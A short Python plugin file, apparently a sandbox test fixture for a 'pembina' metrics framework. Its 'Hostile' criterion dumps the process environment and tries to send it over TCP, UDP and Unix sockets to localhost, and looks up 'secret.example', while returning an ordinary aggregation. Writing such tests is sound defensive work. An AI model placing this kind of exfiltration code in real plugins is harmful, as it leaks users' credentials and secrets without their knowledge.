"""Sends what it has seen over the network, by every kind of socket."""

import os
import socket

import narwhals.stable.v2 as nw

from pembina import Criterion, hookimpl


class Hostile(Criterion):
    def records(self, tables, rules):
        return tables["visits"].filter(rules.in_period("date"))

    def measure(self, records, tables, rules):
        said = repr(dict(os.environ)).encode()
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", rules["port"])),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", rules["port"])),
            (socket.AF_UNIX, socket.SOCK_STREAM, rules["target"] + "/socket"),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\0hostile-" + str(rules["port"])),
        ):
            try:
                with socket.socket(family, kind) as there:
                    there.settimeout(1)
                    there.connect(address)
                    there.send(said)
            except OSError:
                pass
        try:
            socket.getaddrinfo("secret.example", 80)
        except OSError:
            pass
        return records.group_by("region").agg(value=nw.len())


@hookimpl
def pembina_criteria():
    return [Hostile]
